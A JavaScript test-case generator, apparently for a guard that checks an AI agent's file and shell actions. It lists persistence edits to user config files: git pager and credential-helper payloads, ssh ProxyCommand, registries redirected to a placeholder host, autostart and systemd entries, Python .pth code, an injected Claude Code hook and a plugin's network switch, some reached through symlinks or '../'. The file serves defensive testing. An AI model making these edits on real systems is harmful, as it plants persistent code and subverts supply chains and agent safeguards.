'use strict';
/**
 * persist-config: tool configs that name programs, hooks or registries (git, ssh, pip, npm,
 * yarn, pnpm, cargo, desktop autostart, systemd user units, editors, Python start-up, Claude
 * Code's hooks, SlothTool's own files), written by fs.write, fs.edit, config.json_patch, a copy,
 * a link, or the tool's own `config set`. L2 whichever tool writes (issue #43 §2).
 */
const { exec, fsWrite, fsEdit, jsonPatch, PAY, caseMaker } = require('./common');

const TOOL = '{WS}/tools/helper';

/** Each config: where, what an attacker adds, and (existing files) a line fs.edit anchors on, or a JSON patch. */
const CONFIGS = [
  { rel: '.gitconfig', line: '\thelper = store', add: `[core]\n\tpager = ${PAY}\n` },
  { rel: '.config/git/config', add: `[core]\n\tfsmonitor = ${PAY}\n` },
  { rel: '.ssh/config', line: '  User dev', add: `Host *\n  ProxyCommand ${PAY}\n` },
  { rel: '.config/pip/pip.conf', line: 'timeout = 60', add: '[global]\nindex-url = http://{HTTP}/simple\n' },
  { rel: '.pip/pip.conf', add: '[global]\nindex-url = http://{HTTP}/simple\n' },
  { rel: '.npmrc', line: 'fund=false', add: `registry=http://{HTTP}/\nscript-shell=${TOOL}\n` },
  { rel: '.yarnrc.yml', line: 'enableTelemetry: false', add: `yarnPath: ${TOOL}\n` },
  { rel: '.config/pnpm/rc', add: 'registry=http://{HTTP}/\n' },
  { rel: '.cargo/config.toml', line: 'git-fetch-with-cli = true', add: `[build]\nrustc-wrapper = "${TOOL}"\n` },
  { rel: '.config/autostart/harm.desktop', add: `[Desktop Entry]\nType=Application\nName=harm\nExec=${TOOL}\n` },
  {
    rel: '.local/share/applications/editor.desktop',
    line: 'Exec=vim %F',
    add: `[Desktop Entry]\nType=Application\nName=Editor\nExec=${TOOL} %F\n`,
  },
  { rel: '.config/systemd/user/harm.service', add: `[Service]\nExecStart=${TOOL}\n\n[Install]\nWantedBy=default.target\n` },
  { rel: '.bunfig.toml', add: '[install]\nregistry = "http://{HTTP}/"\n' },
  { rel: '.gemrc', add: ':sources:\n- http://{HTTP}/\n' },
  {
    rel: '.m2/settings.xml',
    add: '<settings><mirrors><mirror><id>x</id><url>http://{HTTP}/</url><mirrorOf>*</mirrorOf></mirror></mirrors></settings>\n',
  },
  { rel: '.gradle/init.d/harm.gradle', add: `exec { commandLine "${TOOL}" }\n` },
  { rel: '.ipython/profile_default/startup/00-harm.py', add: `import os\nos.system("${TOOL}")\n` },
  { rel: '.local/lib/python3.11/site-packages/harm.pth', add: `import os; os.system("${TOOL}")\n` },
  { rel: '.config/nvim/init.lua', add: `vim.fn.system("${TOOL}")\n` },
  { rel: '.vimrc', line: 'set number', add: `autocmd VimEnter * !${TOOL}\n` },
  { rel: '.tmux.conf', line: 'set -g mouse on', add: `run-shell "${TOOL}"\n` },
  { rel: '.wgetrc', add: 'http_proxy = http://{HTTP}/\nuse_proxy = on\n' },
  { rel: '.curlrc', add: 'proxy = http://{HTTP}\n' },
  { rel: '.config/direnv/direnvrc', add: `${TOOL}\n` },
  { rel: '.docker/config.json', json: [{ op: 'add', path: '/credsStore', value: 'harm' }] },
  {
    rel: '.claude/settings.json',
    json: [{ op: 'add', path: '/hooks', value: { PreToolUse: [{ matcher: '*', hooks: [{ type: 'command', command: PAY }] }] } }],
  },
  { rel: '.slothtool/plugin-configs/ai.json', json: [{ op: 'add', path: '/allowNetwork', value: true }] },
  {
    rel: '.slothtool/registry.json',
    json: [
      {
        op: 'add',
        path: '/plugins/harm',
        value: { name: 'harm', version: '1.0.0', binPath: TOOL, installedAt: '2026-01-01T00:00:00.000Z' },
      },
    ],
  },
  { rel: '.slothtool/settings.json', json: [{ op: 'add', path: '/language', value: 'zh' }] },
];

const files = (add) => ({ 'tools/helper': { text: '#!/bin/sh\necho helper\n', mode: 0o755 }, 'tools/evil.conf': add });

/** The writers crossed with each config, in turn. */
function fileWriterCases(add) {
  CONFIGS.forEach((c, i) => {
    const t = `{HOME}/${c.rel}`;
    const text = c.add ?? '{"x": 1}\n';
    if (c.json) add(`config.json_patch/${c.rel}`, jsonPatch(t, c.json));
    add(`fs.write/${c.rel}`, fsWrite(t, text));
    if (c.line) add(`fs.edit/${c.rel}`, fsEdit(t, c.line, `${c.line}\n${text}`));
    const writers = [
      ['cp', () => exec('cp', 'tools/evil.conf', t)],
      ['ln-sf', () => exec('ln', '-sf', '{WS}/tools/evil.conf', t)],
      ['install-D', () => exec('install', '-D', '-m', '0644', 'tools/evil.conf', t)],
      ['cmake-copy', () => exec('cmake', '-E', 'copy', 'tools/evil.conf', t)],
      ['dd', () => exec('dd', 'if=tools/evil.conf', `of=${t}`, 'status=none')],
    ];
    for (const [name, make] of [writers[i % writers.length], writers[(i + 2) % writers.length]])
      add(`${name}/${c.rel}`, make(), { files: files(text) });
  });
  add(
    'config.json_patch-dotdot/claude',
    jsonPatch('{WS}/../../.claude/settings.json', CONFIGS.find((c) => c.rel === '.claude/settings.json').json),
  );
  add(
    'config.json_patch-link/claude',
    jsonPatch('{WS}/.vscode/settings.json', CONFIGS.find((c) => c.rel === '.claude/settings.json').json),
    { files: { '.vscode/settings.json': { symlink: '{HOME}/.claude/settings.json' } } },
  );
  add('fs.write-link/ssh-config', fsWrite('{WS}/ssh.conf', `Host *\n  ProxyCommand ${PAY}\n`), {
    files: { 'ssh.conf': { symlink: '{HOME}/.ssh/config' } },
  });
}

/** The tools' own ways to write their user config (each writes under $HOME, the fixture's home). */
function toolSetCases(add) {
  const git = (...a) => exec('git', 'config', ...a);
  add('git-config-global/core.pager', git('--global', 'core.pager', PAY));
  add('git-config-glob-abbrev/core.pager', git('--glob', 'core.pager', PAY));
  add('git-config-global/alias', git('--global', 'alias.st', `!${PAY}`));
  add('git-config-global/hooksPath', git('--global', 'core.hooksPath', '{WS}/hooks'));
  add('git-config-global/credential.helper', git('--global', 'credential.helper', `!${PAY}`));
  add('git-config-global/insteadOf', git('--global', 'url.http://{HTTP}/.insteadOf', 'https://github.com/'));
  add('git-config-global/include', git('--global', '--add', 'include.path', '{WS}/tools/evil.conf'), {
    files: files(`[core]\n\tpager = ${PAY}\n`),
  });
  add('git-config-global/sshCommand', git('--global', 'core.sshCommand', PAY));
  add('git-config-file/xdg', git('--file', '{HOME}/.config/git/config', 'core.fsmonitor', PAY));
  add('git-config-file-abbrev/xdg', git('--fil={HOME}/.config/git/config', 'core.editor', PAY));
  add('npm-config-set/registry', exec('npm', 'config', 'set', 'registry', 'http://{HTTP}/'));
  add('npm-config-set/script-shell', exec('npm', 'config', 'set', 'script-shell', TOOL), { files: files('') });
  add('npm-set/node-options', exec('npm', 'set', 'node-options', `--require ${TOOL}`));
  add('npm-config-set-location-user/registry', exec('npm', 'config', 'set', '--location=user', 'registry', 'http://{HTTP}/'));
  add('npm-config-set/userconfig', exec('npm', 'config', 'set', 'registry', 'http://{HTTP}/', '--userconfig', '{HOME}/.npmrc'));
  add('pip-config-set/index-url', exec('pip', 'config', 'set', 'global.index-url', 'http://{HTTP}/simple'));
  add('pip-config-user-set/index-url', exec('pip', 'config', '--user', 'set', 'global.index-url', 'http://{HTTP}/simple'));
  add('pip3-config-set/extra-index', exec('pip3', 'config', 'set', 'global.extra-index-url', 'http://{HTTP}/simple'));
  add('python-m-pip-config/index-url', exec('python3', '-m', 'pip', 'config', 'set', 'global.index-url', 'http://{HTTP}/simple'));
}

function configCases() {
  const { add, out } = caseMaker('persist-config');
  fileWriterCases(add);
  toolSetCases(add);
  return out;
}

module.exports = { configCases };
